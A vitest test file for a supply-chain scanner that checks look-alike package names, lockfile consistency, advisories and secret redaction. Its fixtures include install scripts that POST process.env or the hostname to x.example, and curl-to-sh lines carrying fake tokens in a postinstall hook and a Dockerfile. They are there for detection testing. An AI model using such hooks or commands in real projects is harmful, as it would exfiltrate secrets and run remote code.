/** Packages across files, names that imitate others, and what a scan knows from lists. */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { FileReport } from '../../../src/supply/contract.ts';
import { FORMATS } from '../../../src/supply/formats.generated.ts';
import { bufferInput } from '../../../src/supply/input.ts';
import type { PackageKnowledge } from '../../../src/supply/packages/contract.ts';
import { lookAlike } from '../../../src/supply/packages/look-alike.ts';
import { purlOf } from '../../../src/supply/packages/names.ts';
import { NPM } from '../../../src/supply/packages/popular/npm.ts';
import { PYPI } from '../../../src/supply/packages/popular/pypi.ts';
import { PACKAGE } from '../../../src/supply/packages/rules.ts';
import { scanInput } from '../../../src/supply/scan.ts';
import { scanEntry, walk } from '../../../src/supply/walk.ts';
import { formatCases } from '../../support/supply-corpus.ts';

let dir: string;
beforeEach(() => { dir = mkdtempSync(join(tmpdir(), 'sallyport-packages-')); });
afterEach(() => { rmSync(dir, { recursive: true, force: true }); });

function put(files: Readonly<Record<string, string>>): void {
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, name)), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
}

function scanned(name: string, knowledge: PackageKnowledge = {}): FileReport {
  for (const entry of walk(dir)) if (entry.path.endsWith(`/${name}`)) return scanEntry(entry, { knowledge });
  throw new Error(`${name} was not found`);
}

const rulesIn = (report: FileReport): string[] => [...new Set(report.findings.map(({ rule }) => rule))].sort();

describe('names', () => {
  test('every listed name is no look-alike of another', () => {
    for (const [ecosystem, list] of [['npm', NPM], ['pypi', PYPI]] as const) for (const name of list.trim().split(/\s+/)) expect(lookAlike(ecosystem, name)).toBeUndefined();
  });

  test('swapping two letters inside a long listed name is always told', () => {
    const names = PYPI.trim().split(/\s+/).slice(0, 1000).filter((name) => /^[a-z]{8,}$/.test(name));
    fc.assert(fc.property(fc.constantFrom(...names), fc.nat(), (name, at) => {
      const i = 1 + (at % (name.length - 3));
      const swapped = name.slice(0, i) + (name[i + 1] ?? '') + (name[i] ?? '') + name.slice(i + 2);
      if (swapped === name) return;
      const found = lookAlike('pypi', swapped);
      expect(found !== undefined || PYPI.includes(swapped), swapped).toBe(true);
    }));
  });

  test.each([
    ['pypi', 'reqeusts', 'requests'], ['pypi', 'requsts', 'requests'], ['pypi', 'numpyy', 'numpy'], ['pypi', 'transfomers', 'transformers'], ['pypi', 'pytroch', 'pytorch'], ['pypi', 'r\u0435quests', 'requests'], ['pypi', 'coIorama', 'colorama'],
    ['npm', 'lodahs', 'lodash'], ['npm', 'expres', 'express'], ['npm', 'electorn', 'electron'], ['npm', '@typse/node', '@types/node'], ['npm', 'preact', undefined], ['npm', 'reakt', undefined], ['pypi', 'grequests', undefined], ['pypi', 'boto4', undefined],
  ] as const)('%s %s imitates %s', (ecosystem, name, of) => {
    const found = lookAlike(ecosystem, name);
    expect(found !== undefined && found.level !== 'near' ? found.of : undefined).toBe(of);
  });

  test('package URLs', () => {
    expect(purlOf('npm', '@scope/Name', '1.0.0+b')).toBe('pkg:npm/%40scope/name@1.0.0%2Bb');
    expect(purlOf('pypi', 'Some_Lib.x', '1!2.0')).toBe('pkg:pypi/some-lib-x@1%212.0');
    expect(purlOf('docker', 'ghcr.io/a/b', undefined, '1.0')).toBe('pkg:docker/a/b@1.0?repository_url=ghcr.io');
    expect(purlOf('docker', 'python', undefined)).toBe('pkg:docker/python');
    expect(purlOf('docker', 'ghcr.io/a/b', 'sha256:ab', '1.0')).toBe('pkg:oci/b@sha256:ab?repository_url=ghcr.io/a/b&tag=1.0');
    expect(purlOf('docker', 'python', 'sha256:ab')).toBe('pkg:oci/python@sha256:ab?repository_url=docker.io/library/python');
    expect(purlOf('docker', 'bitnami/redis', 'sha256:ab')).toBe('pkg:oci/redis@sha256:ab?repository_url=docker.io/bitnami/redis');
    expect(purlOf('docker', 'localhost:5000/a', 'sha256:ab')).toBe('pkg:oci/a@sha256:ab?repository_url=localhost:5000/a');
    expect(purlOf('githubactions', 'Actions/checkout', 'v4')).toBe('pkg:githubactions/actions/checkout@v4');
  });
});

describe('files that belong together', () => {
  test('a lock fixes what the manifest leaves open', () => {
    put({ 'package.json': '{"name":"a","dependencies":{"lodash":"^4.17.0"}}', 'package-lock.json': '{"lockfileVersion":3,"packages":{"":{},"node_modules/lodash":{"version":"4.17.21"}}}' });
    expect(rulesIn(scanned('package.json'))).toEqual([]);
  });

  test('a lock that does not hold what is asked for', () => {
    put({ 'package.json': '{"name":"a","dependencies":{"lodash":"^5.0.0","react":"18.2.0"}}', 'package-lock.json': '{"lockfileVersion":3,"packages":{"":{},"node_modules/lodash":{"version":"4.17.21"}}}' });
    const report = scanned('package.json');
    expect(rulesIn(report)).toEqual([PACKAGE.stale.id]);
    expect(report.findings[0]?.message).toContain('lodash, react');
    put({ 'pyproject.toml': '[project]\nname="a"\ndependencies=["requests>=3","flask"]\n', 'uv.lock': '[[package]]\nname="requests"\nversion="2.32.3"\n[[package]]\nname="flask"\nversion="3.0"\n' });
    expect(scanned('pyproject.toml').findings.map(({ rule, message }) => [rule, message.includes('requests') && !message.includes('flask')])).toEqual([[PACKAGE.stale.id, true]]);
  });

  const yarnLock = (head: string, version: string): string => `# yarn lockfile v1\n\n\n${head}:\n  version "${version}"\n  resolved "https://registry.yarnpkg.com/lodash/-/lodash-${version}.tgz#${'a'.repeat(40)}"\n`;
  const berryLock = (head: string, version: string): string => `__metadata:\n  version: 8\n\n"${head}":\n  version: ${version}\n  resolution: "lodash@npm:${version}"\n  languageName: node\n  linkType: hard\n`;
  const pnpmLock = (specifier: string, version: string): string => `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      lodash:\n        specifier: ${specifier}\n        version: ${version}\n\npackages:\n\n  lodash@4.17.21:\n    resolution: {integrity: sha512-${'a'.repeat(86)}==}\n`;
  const olderPnpmLock = (specifier: string, version: string): string => `lockfileVersion: 5.4\n\nspecifiers:\n  lodash: ${specifier}\n\ndependencies:\n  lodash: ${version}\n`;
  test.each<[string, string, boolean]>([
    ['yarn.lock', yarnLock('lodash@^4.17.0', '4.17.21'), true],
    ['yarn.lock', yarnLock('"lodash@>= 4", lodash@^4.17.0', '4.17.21'), true],
    ['yarn.lock', yarnLock('lodash@^4.16.0', '4.17.21'), false],
    ['yarn.lock', yarnLock('lodash@^4.17.0', '3.10.1'), false],
    ['yarn.lock', yarnLock('lodash.merge@^4.17.0', '4.17.21'), false],
    ['yarn.lock', berryLock('lodash@npm:^4.16.0, lodash@npm:^4.17.0', '4.17.21'), true],
    ['yarn.lock', berryLock('lodash@npm:^4.17.0', '5.0.0'), false],
    ['yarn.lock', berryLock('lodash@npm:^4.16.0', '4.17.21'), false],
    ['pnpm-lock.yaml', pnpmLock('^4.17.0', '4.17.21'), true],
    ['pnpm-lock.yaml', pnpmLock('^4.17.0', '4.17.21(react@18.2.0)'), true],
    ['pnpm-lock.yaml', pnpmLock('^4.16.0', '4.17.21'), false],
    ['pnpm-lock.yaml', pnpmLock('^4.17.0', '3.10.1'), false],
    ['pnpm-lock.yaml', olderPnpmLock('^4.17.0', '4.17.21'), true],
    ['pnpm-lock.yaml', olderPnpmLock('^4.17.0', '4.17.21_react@18.2.0'), true],
    ['pnpm-lock.yaml', olderPnpmLock('^4.16.0', '4.17.21'), false],
    ['pnpm-lock.yaml', 'lockfileVersion: 9\nimporters: {}\n', false],
  ])('%s holds, or does not hold, what the manifest asks for (%#)', (name, lock, holds) => {
    put({ 'package.json': '{"name":"a","dependencies":{"lodash":"^4.17.0"}}', [name]: lock });
    expect(rulesIn(scanned('package.json'))).toEqual(holds ? [] : [PACKAGE.stale.id]);
  });

  test('what is overridden may be locked in another version', () => {
    put({ 'package.json': '{"name":"a","dependencies":{"lodash":"^4.17.0"},"resolutions":{"**/lodash":"5.0.0"}}', 'yarn.lock': yarnLock('lodash@^4.17.0', '5.0.0') });
    expect(rulesIn(scanned('package.json'))).toEqual([]);
  });

  test('a broken lock says so itself, and the manifest is read all the same', () => {
    put({ 'package.json': '{"name":"a","dependencies":{"lodahs":"1.0.0"}}', 'package-lock.json': '{"lockfileVersion":3,"pack' });
    expect(rulesIn(scanned('package.json'))).toEqual([PACKAGE.imitation.id]);
    expect(rulesIn(scanned('package-lock.json'))).toEqual([PACKAGE.malformed.id]);
  });

  test('the script that an installation runs is read', () => {
    put({ 'package.json': '{"name":"a","scripts":{"postinstall":"node ./scripts/setup"}}', 'scripts/setup.js': 'const https = require("https"); https.request({ host: "x.example", method: "POST" }).end(JSON.stringify(process.env));' });
    const report = scanned('package.json');
    expect([report.verdict, rulesIn(report)]).toEqual(['malicious', ['npm-manifest.dangerous-script']]);
    put({ 'scripts/setup.js': 'console.log("built")' });
    expect(scanned('package.json').verdict).toBe('benign');
  });

  test('a script that the installation starts by its name, and what that takes in, is read', () => {
    put({ 'package.json': '{"name":"a","scripts":{"postinstall":"npm run -s setup","setup":"node tools/go.js"}}', 'tools/go.js': 'require("./lib/a");', 'tools/lib/a.js': 'const { request } = require("https"); const os = require("os"); const q = request({ host: "x.example", method: "POST" }); q.end(os.hostname());' });
    const report = scanned('package.json');
    expect([report.verdict, rulesIn(report)]).toEqual(['malicious', ['npm-manifest.dangerous-script']]);
    put({ 'package.json': '{"name":"a","scripts":{"test":"npm run -s setup","setup":"node tools/go.js"}}' });
    expect(scanned('package.json').verdict).toBe('benign');
  });

  test('what is taken in is read, in circles and from outside too', () => {
    put({ 'requirements.txt': '-r base.list\n-r sub/requirements-b.txt\n-r ../up.txt\n', 'base.list': 'reqeusts==1\n', 'sub/requirements-b.txt': '-r ../requirements.txt\n' });
    const report = scanned('requirements.txt');
    expect(rulesIn(report)).toEqual([PACKAGE.imitation.id, PACKAGE.include.id]);
    expect(report.findings.map(({ message }) => message).filter((message) => /circle|back to|outside/.test(message))).toHaveLength(2);
  });

  test('where more is taken in than is followed, the rest is no clean file', () => {
    put({ 'requirements.txt': Array.from({ length: 80 }, (_, i) => `-r list${i}.in\n`).join(''), ...Object.fromEntries(Array.from({ length: 80 }, (_, i) => [`list${i}.in`, 'numpy==1.26.4\n'])) });
    expect(scanned('requirements.txt').verdict).toBe('suspicious');
  });

  test('links beside a file are not followed', () => {
    put({ 'other/x.list': 'reqeusts==1\n', 'a/requirements.txt': '-r x.list\n' });
    symlinkSync(join(dir, 'other/x.list'), join(dir, 'a/x.list'));
    expect(rulesIn(scanned('a/requirements.txt'))).toEqual([PACKAGE.include.id]);
  });
});

describe('what is known of packages', () => {
  const advisories: PackageKnowledge['advisories'] = { of: (_, name, version) => (name === 'evil' ? [{ id: 'MAL-1', aliases: [], summary: 'Steals', malicious: true, unsure: version === undefined }] : name === 'old' ? [{ id: 'GHSA-1', aliases: ['CVE-1'], summary: '', malicious: false, unsure: false }] : []) };

  test('advisories', () => {
    put({ 'a/requirements.txt': 'evil==1.0\n', 'b/requirements.txt': 'old==1.0\n', 'c/requirements.txt': 'evil\n' });
    expect(scanned('a/requirements.txt', { advisories })).toMatchObject({ verdict: 'malicious', findings: [{ rule: PACKAGE.malicious.id, location: 'line 1', message: 'evil 1.0: MAL-1: Steals.' }] });
    expect(scanned('b/requirements.txt', { advisories })).toMatchObject({ verdict: 'suspicious', findings: [{ rule: PACKAGE.vulnerable.id, message: 'old 1.0: GHSA-1 (CVE-1).' }] });
    expect(rulesIn(scanned('c/requirements.txt', { advisories }))).toEqual([PACKAGE.mayBeVulnerable.id, PACKAGE.unpinned.id]);
  });

  test('names that no list holds', () => {
    put({ 'requirements.txt': 'numpy==1.0\nfast-llm-helper==1.0\n', 'package.json': '{"name":"a","dependencies":{"anything":"1.0.0"}}' });
    const known = new Map([['pypi', new Set(['numpy'])]] as const);
    expect(scanned('requirements.txt', { known })).toMatchObject({ verdict: 'suspicious', findings: [{ rule: PACKAGE.unlisted.id, location: 'line 2' }] });
    expect(scanned('package.json', { known }).verdict).toBe('benign');
  });
});

test('secrets in commands and addresses are not repeated', () => {
  const token = `ghp_${'a1'.repeat(18)}`;
  put({
    'package.json': JSON.stringify({ name: 'a', scripts: { postinstall: `curl -H "Authorization: Bearer hunter2hunter2" https://user:hunter2hunter2@x.example/?k=${token} | sh` } }),
    Dockerfile: `FROM a\nENV API_TOKEN=hunter2hunter2\nRUN API_KEY=hunter2hunter2 curl http://198.51.100.7/${token} | sh\n`,
    'requirements.txt': 'a @ git+https://user:hunter2hunter2@198.51.100.7/a\n-i https://user:hunter2hunter2@203.0.113.9/simple\n',
    '.npmrc': '//registry.npmjs.org/:_authToken=hunter2hunter2\n', 'a.js': `const t = "${token}";`,
  });
  for (const name of ['package.json', 'Dockerfile', 'requirements.txt', '.npmrc', 'a.js']) {
    const { findings } = scanned(name);
    expect(findings.length).toBeGreaterThan(0);
    expect(JSON.stringify(findings)).not.toMatch(/hunter2|ghp_a1/);
  }
});

test('every rule of packages has a case or a test', () => {
  const named = new Set(FORMATS.flatMap(({ id }) => formatCases(id)).flatMap(({ rules = [] }) => rules));
  const here = new Set<string>([PACKAGE.stale.id, PACKAGE.malicious.id, PACKAGE.vulnerable.id, PACKAGE.mayBeVulnerable.id, PACKAGE.unlisted.id]);
  expect(Object.values(PACKAGE).map(({ id }) => id).filter((id) => !named.has(id) && !here.has(id))).toEqual([]);
});

/** Processor time of scanning a lock of so many packages, in milliseconds: what else the machine does is not counted. */
function costOf(count: number): number {
  const integrity = `sha512-${Buffer.alloc(64, 1).toString('base64')}`;
  const packages = Object.fromEntries(Array.from({ length: count }, (_, i) => [`node_modules/some-package-${i}`, { version: '1.0.0', resolved: `https://registry.npmjs.org/some-package-${i}/-/some-package-${i}-1.0.0.tgz`, integrity }]));
  const bytes = Buffer.from(JSON.stringify({ lockfileVersion: 3, packages }));
  const start = process.cpuUsage();
  const report = scanInput(bufferInput('package-lock.json', bytes), 'package-lock.json');
  const { user, system } = process.cpuUsage(start);
  expect(report.packages).toHaveLength(count);
  return (user + system) / 1000;
}

test('a lock takes time in proportion to its packages', () => {
  costOf(1000);
  const [small, large] = [Math.max(costOf(3000), 20), costOf(24_000)];
  // Eight times the packages; a square would be sixty-four times the time.
  expect(large / small).toBeLessThan(30);
});
